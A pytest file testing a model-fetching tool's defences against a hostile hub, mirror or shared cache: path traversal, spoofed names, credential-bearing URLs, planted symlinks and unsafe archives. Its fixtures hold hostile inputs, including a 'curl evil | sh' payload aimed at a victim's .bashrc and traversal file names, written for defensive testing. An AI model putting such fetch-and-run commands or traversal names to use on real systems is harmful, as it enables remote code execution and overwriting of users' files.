"""What a hostile Hub, mirror or shared cache could do to `fetch`, found by probing: a listed name that climbs out
of the cache, a body larger than the file, an endpoint that breaks huggingface_hub's import or carries a login,
links planted in the staging folder, and a --from plan that is empty, a FIFO, or about to be overwritten."""

from __future__ import annotations

import json
import os

import pytest
from fetch_standins import Repo, sha256
from typer.testing import CliRunner

from subtool.cli import app
from subtool.errors import SubtoolError
from subtool.fetch import api, store
from subtool.fetch.http import Settings
from subtool.fetch.install import staging_dir
from subtool.mlperf.assets import Asset, AssetFile, HubFiles

FAST = Settings(retries=1, backoff=0.0, timeout=(5, 5))


def _hub_asset(hub, files: dict[str, bytes]) -> Asset:
    hub.repos["meta-llama/Tiny-8B"] = Repo(files, set())
    listed = HubFiles("meta-llama/Tiny-8B", "main", ("*.json", "*.safetensors", "tokenizer*"))
    return Asset("llama3.1-8b", "model", "the checkpoint", ".", "https://example.org/doc", hub=listed)


def _fetch(asset: Asset, **kw):
    return api.fetch(asset.benchmark, kinds=(asset.kind,), assets=(asset,), settings=FAST, **kw)


@pytest.mark.parametrize("name", ["tokenizer/../../../../victim/.bashrc", "tokenizer\0x", "/abs/config.json"])
def test_a_listed_name_that_leaves_the_folder_is_refused_before_anything_is_written(hub_server, tmp_path, name):
    victim = tmp_path / "victim" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("ORIGINAL\n")
    asset = _hub_asset(hub_server, {"config.json": b"{}", name: b"curl evil | sh\n"})
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "cache")
    assert (err.value.rule, err.value.exit_code) == ("fetch.hub_name", 3)
    assert victim.read_text() == "ORIGINAL\n"
    assert not any("/resolve/" in p for _, p, _ in hub_server.requests)  # nothing was downloaded at all


@pytest.mark.parametrize(
    "names",
    [
        ("tokenizer.json", "tokenizer.json/x.json"),
        ("config.json", "CONFIG.json"),
        ("tokenizer_config.json", "MANIFEST.json"),
    ],
    ids=["file-and-folder", "case", "manifest"],
)
def test_a_listing_whose_names_cannot_sit_side_by_side_is_refused_before_any_download(hub_server, tmp_path, names):
    """It downloaded everything, then failed installing with a line naming no rule, and every re-run did the same."""
    patterns = ("*.json", "*/*.json")
    hub_server.repos["meta-llama/Tiny-8B"] = Repo({n: b"{}" for n in names}, set())
    listed = HubFiles("meta-llama/Tiny-8B", "main", patterns)
    asset = Asset("llama3.1-8b", "model", "the checkpoint", ".", "https://example.org/doc", hub=listed)
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "cache")
    assert err.value.rule in ("fetch.layout", "fetch.hub_name") and err.value.exit_code == 3, err.value.one_line()
    assert not any("/resolve/" in p for _, p, _ in hub_server.requests)


def test_a_hub_commit_that_is_no_commit_id_is_refused(hub_server, tmp_path):
    asset = _hub_asset(hub_server, {"config.json": b"{}"})
    hub_server.repos["meta-llama/Tiny-8B"].commit = "../../../evil\n"
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "cache")
    assert (err.value.rule, err.value.exit_code) == ("fetch.hub_name", 3) and "\n" not in err.value.one_line()
    assert not any("/resolve/" in p for _, p, _ in hub_server.requests)


def test_a_listed_name_with_a_right_to_left_mark_is_refused(hub_server, tmp_path):
    """U+202E shows 'config\u202enosj.exe' as 'configexe.json': what the user reads is not the file's name."""
    asset = _hub_asset(hub_server, {"config.json": b"{}", "tokenizer\u202enosj.exe": b"x"})
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "cache")
    assert err.value.rule == "fetch.hub_name"


def test_a_body_longer_than_the_file_is_cut_off_at_its_size(file_server, tmp_path):
    big = os.urandom(3 << 20)
    file_server.files["/f/dev.json"] = big
    listed = AssetFile("dev.json", file_server.url("/f/dev.json"), 2, sha256=sha256(big[:2]))
    asset = Asset("bert-99", "dataset", "data", ".", "https://example.org/doc", (listed,))
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "cache")
    assert err.value.rule == "fetch.size" and "the source says 2" in err.value.message
    parts = staging_dir(tmp_path / "cache", "bert-99", "dataset") / "parts"
    assert not any(parts.glob("*.part"))  # refused from the announced length: nothing kept


def test_a_file_of_unknown_size_stops_at_the_cap_instead_of_filling_the_disk(file_server, tmp_path, monkeypatch):
    from fetch_standins import md5

    from subtool.fetch import http

    monkeypatch.setattr(http, "UNKNOWN_SIZE_CAP", 1 << 20)
    big = os.urandom(3 << 20)
    file_server.files["/f/vocab.txt"] = big
    listed = AssetFile("vocab.txt", file_server.url("/f/vocab.txt"), None, md5=md5(big))  # no size: md5 only
    asset = Asset("bert-99", "dataset", "data", ".", "https://example.org/doc", (listed,))
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "cache")
    assert err.value.rule == "fetch.size" and "over 1,048,576 bytes" in err.value.message
    assert store.installed("bert-99", "dataset", cache=tmp_path / "cache") is None


@pytest.mark.parametrize(
    "endpoint, says",
    [
        ("http://127.0.0.1:99999", "is not a URL"),
        ("http://[::1", "is not a URL"),
        ("http://user:SECRETPASS@127.0.0.1:9", "carries a login"),
        ("http://127.0.0.1:9/?token=SECRETPASS", "has a query"),
        ("ftp://127.0.0.1", "not an http(s) URL"),
    ],
)
def test_a_bad_hf_endpoint_is_one_line_before_huggingface_hub_reads_it(monkeypatch, endpoint, says):
    monkeypatch.setenv("HF_ENDPOINT", endpoint)
    result = CliRunner().invoke(app, ["fetch", "llama3.1-8b", "--plan"])
    assert result.exit_code == 2 and "[fetch.hub_endpoint]" in result.stderr and says in result.stderr
    assert "SECRETPASS" not in result.output and "Error importing" not in result.output


def test_a_mirror_with_a_login_is_refused_and_never_printed_or_written(tmp_path):
    plan = tmp_path / "plan.json"
    mirror = "https://svc:MIRROR_PASSWORD@mirror.example/m"
    result = CliRunner().invoke(app, ["fetch", "bert-99", "--plan", "--mirror", mirror, "--json", str(plan)])
    assert result.exit_code == 2 and "[fetch.mirror]" in result.stderr and "~/.netrc" in result.stderr
    assert "MIRROR_PASSWORD" not in result.output and not plan.exists()


def test_links_planted_in_the_staging_folder_are_refused_and_never_written_through(file_server, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "dev.json").write_text("IMPORTANT")
    data = b'{"data": []}'
    file_server.files["/f/dev.json"] = data
    asset = Asset(
        "bert-99",
        "dataset",
        "data",
        ".",
        "https://example.org/doc",
        (AssetFile("dev.json", file_server.url("/f/dev.json"), len(data), sha256=sha256(data)),),
    )
    staging = staging_dir(tmp_path / "shared", "bert-99", "dataset")
    staging.mkdir(parents=True)
    (staging / "files").symlink_to(victim)  # another user's doing, in a shared cache
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "shared")
    assert err.value.rule == "fetch.staging" and "symbolic link" in err.value.message
    assert (victim / "dev.json").read_text() == "IMPORTANT" and not (victim / ".subtool.lock").exists()
    (staging / "files").unlink()
    (staging / "parts").mkdir()
    (staging / "parts" / "dev.json.part").symlink_to(victim / "dev.json")
    with pytest.raises(SubtoolError) as err:
        _fetch(asset, to=tmp_path / "shared")
    assert err.value.rule == "fetch.staging" and (victim / "dev.json").read_text() == "IMPORTANT"


def _from_dir(tmp_path, hub_server) -> tuple:
    """A --from folder for the hub asset: its plan made against the stand-in, the files copied by hand."""
    files = {"config.json": b'{"a": 1}', "model-00001-of-00001.safetensors": b"WEIGHTS"}
    asset = _hub_asset(hub_server, files)
    src = tmp_path / "from"
    (src / "llama3.1-8b" / "model").mkdir(parents=True)
    plan = api.plan("llama3.1-8b", kinds=("model",), assets=(asset,))
    (src / "llama3.1-8b" / "plan.json").write_text(json.dumps(plan))
    for name, data in files.items():
        (src / "llama3.1-8b" / "model" / name).write_bytes(data)
    return asset, src


def test_a_from_plan_that_lists_no_file_installs_nothing(tmp_path, hub_server):
    asset, src = _from_dir(tmp_path, hub_server)
    doc = json.loads((src / "llama3.1-8b" / "plan.json").read_text())
    for entry in doc["assets"]:
        entry["files"] = []
    (src / "llama3.1-8b" / "plan.json").write_text(json.dumps(doc))
    with pytest.raises(SubtoolError) as err:
        api.install_from("llama3.1-8b", src, kinds=("model",), to=tmp_path / "t", assets=(asset,))
    assert err.value.rule == "fetch.plan" and "lists no file" in err.value.message
    assert store.installed("llama3.1-8b", "model", cache=tmp_path / "t") is None


def test_a_from_plan_that_is_a_fifo_is_refused_not_waited_on(tmp_path, hub_server):
    asset, src = _from_dir(tmp_path, hub_server)
    plan = src / "llama3.1-8b" / "plan.json"
    plan.unlink()
    os.mkfifo(plan)
    with pytest.raises(SubtoolError) as err:
        api.install_from("llama3.1-8b", src, kinds=("model",), to=tmp_path / "t", assets=(asset,))
    assert err.value.rule == "fetch.plan" and "not a regular file" in err.value.message


def test_json_into_the_from_folder_is_refused_before_the_plan_is_overwritten(tmp_path):
    src = tmp_path / "from"
    (src / "llama3.1-8b").mkdir(parents=True)
    plan = src / "llama3.1-8b" / "plan.json"
    plan.write_text("{}")
    result = CliRunner().invoke(
        app,
        ["fetch", "llama3.1-8b", "--model-only", "--from", str(src), "--to", str(tmp_path / "t"), "--json", str(plan)],
    )
    assert result.exit_code == 2 and "[cli.usage]" in result.stderr and plan.read_text() == "{}"


def test_an_archive_member_whose_name_is_not_utf8_is_refused(tmp_path):
    import io
    import tarfile

    from subtool.fetch.unpack import unpack

    archive = tmp_path / "h.tar.gz"
    with tarfile.open(archive, "w:gz", format=tarfile.GNU_FORMAT, encoding="latin-1") as tar:
        member = tarfile.TarInfo(b"caf\xe9".decode("utf-8", "surrogateescape"))
        member.size = 1
        tar.addfile(member, io.BytesIO(b"x"))
    with pytest.raises(SubtoolError) as err:
        unpack(archive, "tar.gz", tmp_path / "out")
    assert err.value.rule == "fetch.unsafe_archive" and "not printable UTF-8" in err.value.message
    assert not any((tmp_path / "out").glob("*")) if (tmp_path / "out").exists() else True


@pytest.mark.filterwarnings("ignore:Duplicate name")  # zipfile warns as it writes the repeat
@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
@pytest.mark.parametrize("second", ["data/Vocab.txt", "data/vocab.txt", "./data/vocab.txt"])
def test_two_archive_members_with_one_name_but_for_case_are_refused(tmp_path, kind, second):
    import io
    import tarfile
    import zipfile

    from subtool.fetch.unpack import unpack

    archive = tmp_path / f"h.{kind}"
    members = [("data/vocab.txt", b"the real one"), (second, b"the one that would win")]
    if kind == "zip":
        with zipfile.ZipFile(archive, "w") as zf:
            for name, data in members:
                zf.writestr(name, data)
    else:
        with tarfile.open(archive, "w:gz") as tar:
            for name, data in members:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    with pytest.raises(SubtoolError) as err:
        unpack(archive, kind, tmp_path / "out")
    assert err.value.rule == "fetch.unsafe_archive" and "same name as 'data/vocab.txt'" in err.value.message


def test_a_from_file_of_the_wrong_size_is_refused_before_it_is_copied(tmp_path, hub_server):
    asset, src = _from_dir(tmp_path, hub_server)
    weights = src / "llama3.1-8b" / "model" / "model-00001-of-00001.safetensors"
    weights.write_bytes(b"W" * 100)  # the plan says 7 bytes
    with pytest.raises(SubtoolError) as err:
        api.install_from("llama3.1-8b", src, kinds=("model",), to=tmp_path / "t", assets=(asset,))
    assert err.value.rule == "fetch.size" and "the plan says 7" in err.value.message
    assert not list((tmp_path / "t").rglob("*.part"))


def test_a_full_disk_during_from_names_the_destination_and_keeps_no_partial_copy(tmp_path, hub_server, monkeypatch):
    import errno
    import shutil

    asset, src = _from_dir(tmp_path, hub_server)

    def full_disk(source, dest):
        with open(dest, "wb") as fh:
            fh.write(b"half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(shutil, "copyfile", full_disk)
    with pytest.raises(SubtoolError) as err:
        api.install_from("llama3.1-8b", src, kinds=("model",), to=tmp_path / "t", assets=(asset,))
    assert err.value.rule == "io.enospc" and str(err.value.path).endswith(".part")
    assert not list((tmp_path / "t").rglob("*.part"))
